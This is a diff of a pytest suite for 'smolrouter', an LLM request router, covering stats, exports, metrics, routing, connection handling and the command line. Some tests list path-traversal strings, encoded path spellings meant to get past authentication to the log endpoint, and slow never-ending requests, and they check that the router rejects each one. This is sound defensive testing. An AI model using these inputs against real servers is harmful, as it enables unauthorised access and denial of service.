+])  # fmt: skip
+def test_bad_parameters(path: str, word: str) -> None:
+    got = request(made_log().port, "GET", path)
+    assert got.status == 400 and word in json.loads(got.content)["error"]["message"]
+
+
+@pytest.mark.parametrize("number", ["1", "0", "-1", "x", "99999999999999999999", "1/2", "%31"])
+def test_unknown_requests(number: str) -> None:
+    for prefix in ("/api/request", "/request"):
+        assert request(made_log().port, "GET", f"{prefix}/{number}").status == 404
+
+
+def test_stats_add_up() -> None:
+    stats = document(made_log(), "/api/stats?hours=24")
+    assert stats["total_requests"] == 4000
+    assert (stats["openai_requests"], stats["ollama_requests"]) == (2666, 1334)
+    assert len(stats["requests_per_hour"]) == 24
+    assert sum(stats["requests_per_hour"]) == stats["recent_requests"]
+    assert 1250 < stats["recent_requests"] < 1400 and stats["inflight_requests"] == 0
+    assert stats["error_rate"] == pytest.approx(0.1, abs=0.01)
+    assert 50 < stats["latency_ms"]["p50"] < 75 and 95 < stats["latency_ms"]["p95"] < 128
+    assert stats["latency_ms"]["p50"] <= stats["latency_ms"]["p95"] <= stats["latency_ms"]["p99"]
+    assert 4 <= stats["ttft_ms"]["p50"] <= 5.7
+    assert stats["prompt_tokens"] == 5 * stats["recent_requests"]
+    assert stats["log"] == {"enabled": True, "error": None, "notice": None, "backlog": 0, "lost": 0}
+    week = document(made_log(), "/api/stats?hours=168")
+    assert week["recent_requests"] == 4000 and len(week["requests_per_hour"]) == 168
+
+
+def nearest_rank(values: Iterable[float | None], percent: int) -> float:
+    """The smallest value that has at least so many percent at or below it."""
+    some = [value for value in values if value is not None]
+    return min(one for one in some if sum(v <= one for v in some) * 100 >= percent * len(some))
+
+
+def test_percentiles_of_few_requests_are_exact(kept: Kept) -> None:
+    store, tallies, rows = made_store(kept.file.parent), {}, []
+    for number in range(60):
+        more = {
+            "sent_model": "once" if number == 7 else "often",
+            "duration_ms": 1.1 * number**2 + 1,
+            "ttft_ms": number / 3 if number % 2 else None,
+        }
+        rows.append(made_row(number, 0, **more))
+        smolrouter.add_row(tallies, rows[-1])
+    store.write(rows, [], tallies)
+
+    def wrong(doc: Mapping[str, Any], some: list[Any]) -> list[str]:
+        parts = {
+            "p50_ms": ("duration_ms", 50),
+            "p95_ms": ("duration_ms", 95),
+            "ttft_p50_ms": ("ttft_ms", 50),
+        }
+        return [
+            name
+            for name, (column, percent) in parts.items()
+            if doc[name] != nearest_rank([getattr(row, column) for row in some], percent)
+        ]
+
+    with kept.router() as router:
+        stats = document(router, "/api/stats")
+        for name, column in (("latency_ms", "duration_ms"), ("ttft_ms", "ttft_ms")):
+            values = [getattr(row, column) for row in rows]
+            assert stats[name] == {f"p{n}": nearest_rank(values, n) for n in (50, 95, 99)}
+        for query in ("", "?limit=10", "?model=once", "?service_type=openai"):
+            for doc in document(router, f"/api/performance{query}")["models"]:
+                its = [row for row in rows if row.sent_model == doc["model"]]
+                assert not wrong(doc, its), query
+        assert len(document(router, "/api/performance?limit=10")["data_points"]) == 10
+        store.db.execute("DELETE FROM requests WHERE id < ?", (rows[30].id,))
+        for at, known in (("/api/stats", "latency_ms"), ("/api/performance?model=often", "")):
+            doc = document(router, at)  # what is left of the rows speaks not for all
+            p50 = doc[known]["p50"] if known else doc["models"][0]["p50_ms"]
+            assert 512 < p50 < 1449 and p50 != nearest_rank(
+                [row.duration_ms for row in rows[30:]], 50
+            )
+    store.close()
+
+
+@pytest.mark.parametrize("query, total", [
+    ("hours=168&limit=5000", 4000), ("hours=168&limit=2000", 4000), ("hours=168&limit=100", 4000),
+    ("hours=168&limit=100&model=model-1", 1000), ("hours=168&limit=100&service_type=ollama", 1334),
+    ("hours=168&limit=3000&service_type=ollama", 1334), ("hours=168&limit=7", 4000),
+    ("hours=168&model=nobody", 0),
+])  # fmt: skip
+def test_performance_is_sampled_evenly(query: str, total: int) -> None:
+    doc = document(made_log(), f"/api/performance?{query}")
+    limit = int(dict(urllib.parse.parse_qsl(query)).get("limit", 2000))
+    points, meta = doc["data_points"], doc["meta"]
+    assert meta["sampled"] == (total > limit) and meta["total_points"] == total
+    assert min(total, limit) * 0.5 <= len(points) <= limit
+    if total <= limit:
+        assert len(points) == total
+    moments = [point["timestamp"] for point in points]
+    assert moments == sorted(moments) and all(map(MOMENT.fullmatch, moments))
+    if total > limit >= 100:  # no end is cut: each third of the time has its share
+        thirds = [0, 0, 0]
+        ids = [point["id"] for point in points]
+        low = (int(time.time() * 1000) - 3 * 86_400_000) * 1024
+        for number in ids:
+            thirds[min(2, (number - low) * 3 // (3 * 86_400_000 * 1024))] += 1
+        assert min(thirds) > len(points) / 6
+    assert sum(model["requests"] for model in doc["models"]) == total
+    for model in doc["models"]:
+        assert model["prompt_tokens"] == 5 * model["requests"]
+        assert model["p50_ms"] <= model["p95_ms"]
+    for point in points[:20]:
+        assert point["total_tokens"] == 11 and point["tokens_per_second"] > 0
+
+
+def test_no_query_walks_the_log(tmp_path: pathlib.Path) -> None:
+    with contextlib.closing(made_store(tmp_path).open()) as db:
+
+        def plan(sql: str, values: Any) -> list[str]:
+            return [row[3] for row in db.execute(f"EXPLAIN QUERY PLAN {sql}", values)]
+
+        whole = {"model": "m", "source": "s", "upstream": "u", "service_type": "openai"}
+        asked = [{}, {"before": 5}, {"q": "x"}, whole, *({name: whole[name]} for name in whole)]
+        asked += [{**one, "status": smolrouter.parse_status(text)}
+                  for one in asked for text in ("404", "4xx", "200", "error")]  # fmt: skip
+        for one in asked:
+            for step in plan(*smolrouter.select_rows(one)):
+                assert not step.startswith("SCAN requests"), (one, step)
+                assert "TEMP B-TREE" not in step, (one, step)
+        for level in range(12):
+            for given in ({}, {"model": "m"}, {"service_type": "openai"}):
+                seen: list[str] = []
+                db.set_trace_callback(seen.append)
+                smolrouter.read_points(db, 1, level, given)
+                db.set_trace_callback(None)
+                assert not [s for s in plan(seen[0], ()) if s.startswith("SCAN")], seen[0]
+                if given and level < 3:  # few rows of many are found in their index
+                    assert re.search(r"USING INDEX by_(sent|service) ", plan(seen[0], ())[0])
+
+
+# --- live events, one request, servers and routes -------------------------------------
+
+RUNNING_NAMES = re.findall(
+    r"\w+",
+    """id request_id timestamp source_ip path service_type phase
+    original_model mapped_model sent_model upstream_url elapsed_ms tokens bytes""",
+)
+
+
+def test_events_tell_what_happens() -> None:
+    model = stage().plays(
+        [
+            *stream_answer([event(piece("a ")), 0.4, event(piece("b "))]),
+        ]
+    )
+    with connect(logging().port) as sock:
+        sock.sendall(encode_request("GET", "/api/events"))
+        heard = b""
+        while b"hello" not in heard:
+            heard += sock.recv(65536)
+        ask(logging(), model, stream=True)
+        number = row_of(logging(), model)["id"]
+
+        def news() -> dict[str, list[Any]]:
+            nonlocal heard
+            heard += sock.recv(65536)
+            found: dict[str, list[Any]] = {"started": [], "first_token": [], "finished": []}
+            for text in re.findall(rb"event: requests\ndata: (\{.*\})\n\n", heard):
+                for name, rows in json.loads(text).items():
+                    found[name] += rows
+            return found
+
+        sock.settimeout(PATIENCE)
+        found = news()
+        while number not in [row["id"] for row in found["finished"]]:
+            found = news()
+        assert b"text/event-stream" in heard
+        started = [row for row in found["started"] if row["id"] == number]
+        assert len(started) == 1 and started[0]["original_model"] == model
+        assert sorted(started[0]) == sorted(RUNNING_NAMES)
+        assert number in found["first_token"]
+        done = [row for row in found["finished"] if row["id"] == number]
+        assert len(done) == 1 and sorted(done[0]) == sorted(ROW_NAMES)
+
+
+def test_draining_ends_the_events(kept: Kept) -> None:
+    with kept.router() as router, connect(router.port) as sock:
+        sock.sendall(encode_request("GET", "/api/events"))
+        until(lambda: b"hello" in sock.recv(65536))
+        begun = time.monotonic()
+        assert router.stop() == 0 and time.monotonic() - begun < 5
+
+
+def test_request_page_carries_its_data() -> None:
+    text = "</script><!-- <script> \u2028"
+    ask(logging(), "inline", text)
+    number = row_of(logging(), "inline")["id"]
+    got = request(logging().port, "GET", f"/request/{number}")
+    assert (got.status, got.get("Content-Type")) == (200, "text/html; charset=utf-8")
+    match = re.search(
+        rb'<script type="application/json" id="request-data">(.*?)</script>', got.content, re.S
+    )
+    assert match and b"<" not in match[1]
+    assert json.loads(match[1]) == document(logging(), f"/api/request/{number}")
+    assert json.loads(match[1])["transcript"][0]["content"] == text
+
+
+def test_upstreams_say_how_they_are() -> None:
+    routes = {
+        "servers": {"off": "http://127.0.0.1:9", "box": stage().url},
+        "aliases": {"either": {"instances": ["off/tiny", "box/other"]}},
+    }
+    settings = {"DEFAULT_UPSTREAM": stage().url, "WEBUI_SECURITY": "NONE"}
+    with Router(settings, routes) as router:
+        ask(router, "up")
+        ask(router, "either")
+        row_of(router, "either")
+        times = [row["duration_ms"] for row in document(router, "/api/logs")]
+        found = {doc["name"]: doc for doc in document(router, "/api/upstreams")}
+    assert found["box"]["state"] == "up" and found["off"]["state"] == "down"
+    assert "refused" in found["off"]["last_error"]
+    assert found["off"]["failures"] >= 1 and found["box"]["failures"] == 0
+    assert found["box"]["requests"] == 2 and found["box"]["p50_ms"] == min(times)
+    assert "tiny" in found["box"]["models"] and found["off"]["models"] == []
+    assert (found["box"]["url"], found["box"]["api"]) == (stage().url, "openai")
+
+
+def test_a_server_is_asked_for_by_its_name() -> None:
+    ask(logging(), "by-name")
+    number, place = row_of(logging(), "by-name")["id"], stage().url.partition("://")[2]
+    for text in ("box", stage().url, place):
+        assert number in [row["id"] for row in document(logging(), f"/api/logs?upstream={text}")]
+    assert document(logging(), "/api/logs?upstream=off") == []
+
+
+def test_routes_explain_themselves() -> None:
+    doc = document(logging(), "/api/routes?model=asked-for&source_host=10.1.2.3")
+    assert [server["name"] for server in doc["servers"]] == ["off", "box"]
+    assert doc["aliases"][0]["name"] == "either"
+    assert doc["routes"] == [
+        {"rule": "routes[0]", "match": "model asked-for", "route": "box/sent"},
+        {"rule": "routes[1]", "match": "model friend", "route": "alias either"},
+    ]
+    decision = doc["decision"]
+    assert decision["trail"][-1]["matched"] and decision["route"] == "routes[0]"
+    assert decision["instances"] == [{"server": "box", "url": stage().url, "model": "sent"}]
+    assert decision["source_host"] == "10.1.2.3"
+    assert "decision" not in document(logging(), "/api/routes")
+
+
+# --- metrics and export ---------------------------------------------------------------
+
+
+def test_metrics_are_well_formed() -> None:
+    ask(logging(), 'quo"te\\')
+    ask(logging(), "measured", stream=True)
+    row_of(logging(), "measured")
+    got = request(logging().port, "GET", "/metrics")
+    assert got.get("Content-Type").startswith("text/plain; version=0.0.4")
+    text, kinds, samples = got.content.decode(), {}, {}
+    label = r'[a-z]+="(?:[^"\\\n]|\\["\\n])*"'
+    for line in text.splitlines():
+        if line.startswith("# TYPE "):
+            _, _, name, kind = line.split(" ")
+            assert name not in kinds and f"# HELP {name} " in text
+            kinds[name] = kind
+        elif not line.startswith("# HELP "):
+            match = re.fullmatch(rf"([a-z_]+)(?:\{{({label}(?:,{label})*)\}})? ([0-9.e+]+)", line)
+            assert match, line
+            family = next(n for n in kinds if re.fullmatch(rf"{n}(_bucket|_sum|_count)?", match[1]))
+            assert (kinds[family] == "counter") == match[1].endswith("_total")
+            assert (match[1], match[2]) not in samples
+            samples[match[1], match[2]] = float(match[3])
+    wanted = f'service="openai",model="measured",upstream="{stage().url}"'
+    assert samples["smolrouter_requests_total", wanted] == 1
+    assert samples["smolrouter_completion_tokens_total", wanted] == 3
+    counts = [
+        value
+        for (name, labels), value in samples.items()
+        if name == "smolrouter_duration_seconds_bucket" and labels.startswith(wanted)
+    ]
+    assert counts == sorted(counts) and counts[-1] == 1
+    assert samples["smolrouter_ttft_seconds_count", wanted] == 1
+    promtool = shutil.which("promtool")
+    if promtool:
+        subprocess.run([promtool, "check", "metrics"], input=got.content, check=True)
+
+
+def test_export_in_every_form(kept: Kept) -> None:
+    model = stage().plays(sse_answer([piece("<think>hm</think>Yes"), ending(), "[DONE]"]))
+    failing = stage().plays(json_answer({"error": "no"}, 500))
+    with kept.router() as router:
+        ask(router, model, 'one, "two"', stream=True)
+        ask(router, failing)
+        request(router.port, "POST", "/v1/embeddings", {"model": "vectors", "input": "x"})
+        kept.written(3)
+        settings = {name: str(value) for name, value in kept.settings.items()}
+        for form in ("jsonl", "csv", "openai"):
+            got = request(router.port, "GET", f"/api/export?format={form}&since=1h")
+            assert got.status == 200 and "attachment" in got.get("Content-Disposition")
+            done = run("export", "--format", form, "--since", "1h", settings=settings)
+            assert (done.returncode, done.stdout) == (0, got.content.decode())
+            lines = done.stdout.splitlines()
+            if form == "csv":
+                rows = list(csv.DictReader(lines))
+                assert sorted(rows[0]) == sorted(ROW_NAMES) and len(rows) == 3
+                assert rows[-1]["original_model"] == model and rows[-1]["is_inflight"] == "False"
+            elif form == "jsonl":
+                assert [json.loads(line)["original_model"] for line in lines] == [
+                    "vectors",
+                    failing,
+                    model,
+                ]
+                assert json.loads(lines[-1]) == detail_of(router, model)
+            else:
+                assert [json.loads(line) for line in lines] == [
+                    {
+                        "messages": [
+                            {"role": "user", "content": 'one, "two"'},
+                            {"role": "assistant", "content": "Yes"},
+                        ]
+                    }
+                ]
+        got = request(router.port, "GET", f"/api/export?model={failing}")
+        assert len(got.content.splitlines()) == 1
+    bad = run("export", "--format", "xml", settings=settings)
+    assert bad.returncode == 2 and "jsonl" in bad.stderr and bad.stderr.count("\n") == 1
+    bad = run("export", settings={"DB_PATH": str(kept.file.parent / "none.db")})
+    assert bad.returncode == 2 and "(DB_PATH=" in bad.stderr and "none.db" in bad.stderr
+    bad = run("export", "--since", "banana", settings=settings)
+    assert bad.returncode == 2 and "'banana': allowed is an age" in bad.stderr
+    assert "DB_PATH" not in bad.stderr
+
+
+def test_export_is_streamed() -> None:
+    got = request(made_log().port, "GET", "/api/export?format=csv")
+    assert got.content.count(b"\n") == 4001 and len(got.pieces) > 5
+
+
+# ======================================================================================
+# 16  Application
+# ======================================================================================
+# Which path means what. A new endpoint is tried here; section 10 finds it in ENDPOINTS by
+# itself and asks it under every policy.
+
+
+def test_router_answers_unknown_paths_itself() -> None:
+    got = request(shared().port, "GET", "/unknown/path")
+    assert got.status == 404
+    assert got.json["error"]
+    assert not stage().heard("/unknown/path")
+
+
+@pytest.mark.parametrize("method", ("GET", "POST", "DELETE"))
+@pytest.mark.parametrize("path", ("/nope", "/api/nope", "/v2/chat/completions", "/v1x"))
+def test_unknown_path(method: str, path: str) -> None:
+    body = chat("talk") if method == "POST" else None
+    with unheard():
+        got = request(ways().port, method, path, body)
+    assert got.status == 404
+    assert got.json["error"]
+
+
+def test_wrong_method_says_what_is_allowed() -> None:
+    got = request(shared().port, "GET", "/api/chat")
+    assert got.status == 405
+    assert "POST" in (got.get("Allow") or "")
+    assert "error" in got.json
+
+
+WRONG_METHODS = (
+    ("GET", "/api/chat", "POST"),
+    ("GET", "/api/generate", "POST"),
+    ("DELETE", "/api/embed", "POST"),
+    ("POST", "/api/tags", "GET"),
+    ("POST", "/api/version", "GET"),
+    ("GET", "/api/delete", "DELETE"),
+)
+
+
+@pytest.mark.parametrize("method, path, right", WRONG_METHODS)
+def test_wrong_method(method: str, path: str, right: str) -> None:
+    with unheard():
+        got = request(ways().port, method, path, {} if method == "POST" else None)
+    assert got.status == 405
+    assert right in re.split(r"\s*,\s*", got.get("Allow") or "")
+    check_error(path, got)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/v1/../OUT", "/v1/%2e%2e/OUT", "/v1/.%2E/OUT", "/v1/x/../../OUT", "//OUT",
+        "/v1/./../OUT", "/v1//../OUT", "/../OUT", "/v1/../../../OUT",
+    ],
+)  # fmt: skip
+def test_no_path_leads_outside(path: str) -> None:
+    mark = stage().plays(FINE)
+    target = path.replace("OUT", mark)
+    data = raw(shared().port, get(target, [("Connection", "close")]), answers=0)
+    assert data.startswith(b"HTTP/1.1 404 ")
+    assert not stage().heard(mark)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/api/logs",
+        "//api/logs",
+        "/api/./logs",
+        "/%61pi/logs",
+        "/api/logs/",
+        "/api/x/../logs",
+        "/api//logs",
+        "/api/%6cogs",
+        "/v1/../api/logs",
+        "/API/logs",
+        "/api/logs?x=/v1/",
+        "/api/logs%00",
+        "/;/api/logs",
+        "http://router/api/logs",
+    ],
+)
+def test_no_spelling_of_a_path_opens_the_log(path: str) -> None:
+    settings = {"WEBUI_SECURITY": "ALWAYS_AUTH", "JWT_SECRET": SECRET}
+    router = router_for({"DEFAULT_UPSTREAM": stage().url, **settings})
+    data = raw(router.port, get(path, [("Connection", "close")]), answers=0)
+    assert int(data.split(b" ")[1]) >= 400
+
+
+def test_head_of_the_root_says_that_it_runs() -> None:
+    data = raw(shared().port, encode_request("HEAD", "/"), to_head=True)
+    assert parse(data, to_head=True).status == 200
+    assert data.endswith(b"\r\n\r\n")
+
+
+def test_healthz() -> None:
+    got = request(shared().port, "GET", "/healthz")
+    assert (got.status, got.json["status"]) == (200, "ok")
+
+
+def test_page_comes_with_its_own_hashes() -> None:
+    got = request(shared().port, "GET", "/")
+    page = (HERE / "dashboard.html").read_bytes()
+    assert (got.status, got.content) == (200, page)
+    policy = got.get("Content-Security-Policy")
+    for tag in (b"style", b"script"):
+        text = page.partition(b"<" + tag + b">")[2].partition(b"</" + tag + b">")[0]
+        digest = base64.b64encode(hashlib.sha256(text).digest()).decode()
+        assert f"{tag.decode()}-src 'sha256-{digest}'" in policy
+    assert "unsafe" not in policy and "default-src 'none'" in policy
+
+
+def test_page_of_a_file_is_read_each_time(tmp_path: pathlib.Path) -> None:
+    page = tmp_path / "page.html"
+    with Router({}, args=("serve", "--dashboard", str(page))) as router:
+        assert request(router.port, "GET", "/").status == 404
+        for text in ("<p>one</p>", "<p>two</p>"):
+            page.write_text(text)
+            assert request(router.port, "GET", "/").content == text.encode()
+
+
+# ======================================================================================
+# 17  HTTP server
+# ======================================================================================
+# Connections from their first request to their last; many of them; the end.
+
+# --- one connection -------------------------------------------------------------------
+
+
+def test_one_connection_serves_many_requests() -> None:
+    with connect(shared().port) as sock:
+        for turn in range(3):
+            got = parse(exchange(sock, get(f"/v1/turn-{turn}")))
+            assert (got.status, got.json["target"]) == (200, f"/v1/turn-{turn}")
+
+
+def test_connection_close_is_obeyed() -> None:
+    data = raw(shared().port, get("/v1/last", [("Connection", "close")]), answers=0)
+    assert parse(data).status == 200
+    assert parse(data).get("Connection") == "close"
+
+
+def test_pipelined_requests_are_answered_in_order() -> None:
+    slow = stage().plays([0.2, *json_answer({"target": "the slow one"})])
+    document = dumps(chat("tiny", "the third"))
+    requests = [
+        get(f"/v1/{slow}"),
+        get("/v1/second"),
+        post(CHAT, chat("tiny", "the third")),
+        post_chunks(CHAT, document[:9], document[9:]),
+        post("/api/chat", chat("tiny", "the fifth", stream=False)),
+        *(get(f"/v1/number-{n}") for n in range(20)),
+    ]
+    data = raw(shared().port, b"".join(requests), answers=len(requests))
+    answers, rest = split_answers(data)
+    assert [a.status for a in answers] == [200] * 25
+    assert not rest
+    assert answers[0].json["target"] == "the slow one"
+    assert answers[1].json["target"] == "/v1/second"
+    assert answers[2].text == answers[3].text == "You said: the third"
+    assert answers[4].text == "You said: the fifth"
+    assert [a.json["target"] for a in answers[5:]] == [f"/v1/number-{n}" for n in range(20)]
+
+
+def test_a_request_pipelined_behind_a_stream_is_kept() -> None:
+    gate = threading.Event()
+
+    def script(received: Received) -> Iterator[Step]:
+        yield from stream_answer([event({"n": 1})], whole=False)
+        gate.wait(PATIENCE)
+        yield from chunked(event("[DONE]"))
+
+    model = stage().plays(script)
+    with connect(shared().port) as sock:
+        sock.sendall(post(CHAT, chat(model, stream=True)))
+        assert receive_until(sock, b'{"n":1}')
+        sock.sendall(get("/v1/behind"))
+        gate.set()
+        data = receive_until(sock, b"/v1/behind", b"}")
+    assert data.index(b"[DONE]") < data.index(b"0\r\n\r\n") < data.index(b"/v1/behind")
+
+
+# --- clients that are slow from the first test on -------------------------------------
+
+LATE: dict[str, tuple[bytes, float]] = {
+    "half a request line": (b"GET /v1/dawdler", 0),
+    "half a head": (b"GET /v1/dawdler HTTP/1.1\r\nHost: router\r\nX-", 0),
+    "a head drop by drop": (
+        b"GET /v1/dawdler HTTP/1.1\r\nHost: router\r\nX-" + b"a" * 40, 1),
+    "half a content": (post("/v1/dawdler", chat("dawdler"))[:-5], 0),
+    "half a chunk": (post_chunks("/v1/dawdler", dumps(chat("dawdler")))[:-12], 0),
+}  # fmt: skip
+
+
+def dawdle(port: int, data: bytes, pause: float) -> bytes:
+    """Send a request that never ends, all but its last bytes at once."""
+    body = len(data) - 40 if pause else len(data)
+    steps: list[bytes | float] = [data[:body]]
+    for byte in data[body:]:
+        steps += [pause, bytes([byte])]
+    return raw(port, *steps, answers=0, patience=60)
+
+
+@pytest.fixture(scope="module", autouse=True)
+def dawdlers() -> Iterator[dict[str, concurrent.futures.Future[bytes]]]:
+    """Clients that are slow from the first test on; the last test looks at them."""
+    pool = concurrent.futures.ThreadPoolExecutor(len(LATE))
+    port = shared().port
+    yield {name: pool.submit(dawdle, port, *late) for name, late in LATE.items()}
+    pool.shutdown(wait=False, cancel_futures=True)
+
+
+@pytest.mark.parametrize("name", LATE)
+def test_dawdler_is_answered_408(
+    name: str, dawdlers: dict[str, concurrent.futures.Future[bytes]]
+) -> None:
+    answers, rest = split_answers(dawdlers[name].result(timeout=90))
+    assert ([a.status for a in answers], rest) == ([408], b"")
+    assert answers[0].get("Connection") == "close"
+    assert not stage().heard("dawdler")
+
+
+# --- many connections -----------------------------------------------------------------
+
+
+def test_two_hundred_clients_at_once() -> None:
+    def one(number: int) -> str:
+        return request(shared().port, "GET", f"/v1/client-{number}").json["target"]
+
+    targets = at_once(one, range(400), workers=200)
+    assert targets == [f"/v1/client-{n}" for n in range(400)]
+
+
+def test_more_connections_wait_for_their_turn() -> None:
+    with pair(MAX_CONNECTIONS=2) as (router, upstream):
+        slow = upstream.plays([0.3, *FINE])
+        with connect(router.port) as first, connect(router.port) as second:
+            for sock in (first, second):
+                sock.sendall(post(CHAT, chat(slow)))
+            until(lambda: len(upstream.heard(slow)) == 2)
+            with connect(router.port) as third:
+                third.sendall(get("/v1/third"))
+                assert receive_until(first, b"fine")
+                assert not upstream.heard("/v1/third")
+                assert receive_until(third, b"/v1/third")
+
+
+@pytest.mark.parametrize("begin", [b"", get("/v1/x")])
+def test_idle_connections_make_room(begin: bytes) -> None:
+    with pair(MAX_CONNECTIONS=4) as (router, _), contextlib.ExitStack() as stack:
+        for _ in range(7):
+            sock = stack.enter_context(connect(router.port))
+            if begin:
+                assert parse(exchange(sock, begin)).status == 200
+        assert request(router.port, "GET", "/v1/y").status == 200
+
+
+def test_few_files_are_enough() -> None:
+    """With 100 descriptors and 30 clients, others are served, before and after."""
+    shell = ("/bin/sh", "-c", 'ulimit -n 100; exec "$0" "$@"', sys.executable)
+    with Upstream() as upstream, contextlib.ExitStack() as stack:
+        router = stack.enter_context(Router({"DEFAULT_UPSTREAM": upstream.url}, python=shell))
+        with contextlib.ExitStack() as crowd:
+            for _ in range(30):
+                sock = crowd.enter_context(connect(router.port))
+                with contextlib.suppress(ConnectionError):
+                    sock.sendall(get("/v1/crowd"))
+            assert ask(router, "tiny").status == 200
+        results = at_once(lambda n: ask(router, "tiny").status, range(40), workers=20)
+        assert results == [200] * 40
+        assert "Traceback" not in router.stderr
+
+
+# --- the end --------------------------------------------------------------------------
+
+
+def refuses(port: int) -> bool:
+    """Whether new connections are refused."""
+    try:
+        connect(port).close()
+    except ConnectionError:
+        return True
+    return False
+
+
+@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
+def test_signal_lets_running_answers_end(number: int) -> None:
+    gate = threading.Event()
+    events = [event(e) for e in completion_events({}, "to the end")]
+
+    def script(received: Received) -> Iterator[Step]:
+        yield from stream_answer(events[:2], whole=False)
+        gate.wait(PATIENCE)
+        yield from chunked(*events[2:])
+
+    with pair(script, SHUTDOWN_GRACE=60) as (router, _):
+        with connect(router.port) as sock, connect(router.port) as idle:
+            assert parse(exchange(idle, get("/healthz"))).status == 200
+            sock.sendall(post(CHAT, chat("tiny", stream=True)))
+            data = receive_until(sock, b"to ")
+            router.signal(number)
+            assert until(lambda: refuses(router.port))
+            gate.set()
+            got = parse(data + exchange(sock, answers=0))  # they are not waited for
+            assert idle.recv(1) == b""
+        assert (got.text, got.events[-1]) == ("to the end", b"[DONE]")
+        assert router.wait() == 0
+
+
+def test_sigterm_without_work_exits_at_once() -> None:
+    with pair(SHUTDOWN_GRACE=60) as (router, _):
+        assert ask(router, "tiny").status == 200
+        assert router.stop() == 0
+
+
+def test_grace_ends() -> None:
+    with (
+        pair(lambda r: [HANG], SHUTDOWN_GRACE=0.3) as (router, upstream),
+        connect(router.port) as sock,
+    ):
+        sock.sendall(post(CHAT, chat("tiny")))
+        seen = upstream.connection_of("tiny")
+        assert router.stop() == 0
+        assert until(lambda: seen.closed)
+
+
+def test_second_signal_ends_at_once() -> None:
+    with (
+        pair(lambda r: [HANG], SHUTDOWN_GRACE=60) as (router, upstream),
+        connect(router.port) as sock,
+    ):
+        sock.sendall(post(CHAT, chat("tiny")))
+        upstream.connection_of("tiny")
+        router.signal(signal.SIGTERM)
+        assert until(lambda: refuses(router.port))
+        assert router.process.poll() is None
+        router.signal(signal.SIGTERM)
+        router.wait()
+
+
+# ======================================================================================
+# 18  Command line
+# ======================================================================================
+# Each command, alone and with settings; a new flag of a command is tried here.
+
+# --- flags ----------------------------------------------------------------------------
+
+
+def test_serving_with_a_bad_setting_stops_with_status_2() -> None:
+    for args in ((), ("serve",)):
+        done = run(*args, settings={"LISTEN_PORT": "eighty"})
+        assert done.returncode == 2
+        (line,) = done.stderr.strip().splitlines()
+        assert "LISTEN_PORT" in line and "eighty" in line
+
+
+def test_a_flag_wins_over_the_environment() -> None:
+    settings = {"DEFAULT_UPSTREAM": "http://127.0.0.1:9", "STRIP_THINKING": "no"}
+    flags = ["--default-upstream", stage().url, "--strip-thinking", "yes"]
+    model = stage().plays(json_answer(completion({}, "<think>no</think>yes")))
+    for args in (flags, ["serve", *flags]):
+        with Router(settings, args=args) as router:
+            assert ask(router, model).text == "yes"
+
+
+def test_a_bad_flag_stops_with_status_2() -> None:
+    for args, words in (
+        (["--listen-port", "eighty"], "--listen-port='eighty': allowed is a whole number"),
+        (["--no-such-flag"], "--no-such-flag; see smolrouter --help"),
+        (
+            ["--default-upstrem", "http://x:1"],
+            "unknown flag --default-upstrem; did you mean --default-upstream?",
+        ),
+        (["--LISTEN_PORT=80"], "unknown flag --LISTEN_PORT; did you mean --listen-port?"),
+        (["export", "--sinse", "7d"], "unknown flag --sinse; did you mean --since?"),
+        (["serve", "--since", "7d"], "unknown flag --since; see smolrouter --help"),
+        (["explain", "m", "--sorce-host=::1"], "did you mean --source-host?"),
+        (["-p", "80"], "unknown flag -p; "),
+        (["--jwt-secret", "-hidden"], "--jwt-secret: expected one argument"),
+        (["export", "--format", "csv", "left", "over"], "unrecognized arguments: left over"),
+        (["--listen-port"], "--listen-port: expected one argument"),
+        (["no-such-command"], "'no-such-command' (choose from "),
+        (["token", "--subject", "me", "--days", "x"], "--days: 'x': allowed is a number from"),
+        (["token"], "required: --subject"),
+    ):
+        with pytest.raises(smolrouter.ConfigError) as raised:
+            smolrouter.run_command(args, {})
+        (line,) = str(raised.value).splitlines()
+        assert words in line, line
+    done = run("--default-upstrem", "http://x:1")
+    assert (done.returncode, done.stderr.count("\n")) == (2, 1)
+    assert done.stderr.startswith("smolrouter: unknown flag --default-upstrem; did you mean ")
+
+
+def test_an_old_python_is_told_so() -> None:
+    ast.parse(SOURCE, feature_version=(3, 8))  # else it would be told of a SyntaxError
+    pretend = "import sys; sys.version_info = (3, 9, 1); import smolrouter"
+    done = subprocess.run(
+        [sys.executable, "-c", pretend], cwd=HERE, text=True, capture_output=True, timeout=30
+    )
+    assert (done.returncode, done.stderr.count("\n")) == (1, 1)
+    assert done.stderr.startswith("SmolRouter needs Python 3.10 or newer")
+
+
+def test_a_port_that_is_taken_stops_with_one_line() -> None:
+    done = run(settings={"LISTEN_PORT": stage().port})
+    assert done.returncode
+    assert str(stage().port) in done.stderr
+    assert "Traceback" not in done.stderr
+
+
+# --- without any package --------------------------------------------------------------
+
+TABLE: dict[str, Any] = {
+    "servers": {"fast-box": "http://127.0.0.1:9"},
+    "aliases": {"assistant": {"instances": ["fast-box/llama3-8b"]}},
+    "routes": [{"match": {"model": "/-1.5b$/", "source_host": "10.0.0.0/8"},
+                "route": {"upstream": "fast-box", "model": "small"}}],
+}  # fmt: skip
+
+
+@pytest.fixture
+def folder() -> Iterator[pathlib.Path]:
+    """An empty directory with the program in it, alone."""
+    with tempfile.TemporaryDirectory(prefix="smol-") as name:
+        shutil.copy(SMOLROUTER, pathlib.Path(name) / "smolrouter.py")
+        yield pathlib.Path(name)
+
+
+ALONE = [sys.executable, "-I", "-S", "smolrouter.py"]  # -S: no PyYAML either
+
+
+def alone(folder: pathlib.Path, *args: str, **settings: Any) -> Any:
+    """Run a command of the lone program without any package."""
+    kept = {name: os.environ[name] for name in ("PATH", "HOME") if name in os.environ}
+    environment = kept | {name: str(value) for name, value in settings.items()}
+    return subprocess.run(
+        [*ALONE, *args],
+        cwd=folder,
+        env=environment,
+        text=True,
+        capture_output=True,
+        timeout=30,
+    )
+
+
+def test_alone_it_relays(folder: pathlib.Path) -> None:
+    python = (sys.executable, "-I", "-S")
+    settings = {"DEFAULT_UPSTREAM": stage().url}
+    routes = {"aliases": {"friend": {"instances": [{"url": stage().url, "model": "m"}]}}}
+    with Router(settings, routes, python=python, program=folder / "smolrouter.py") as it:
+        assert ask(it, "tiny").text == "You said: hi"
+        assert ask(it, "friend", stream=True).text == "You said: hi"
+        assert it.stop() == 0
+        assert "Traceback" not in it.stderr
+
+
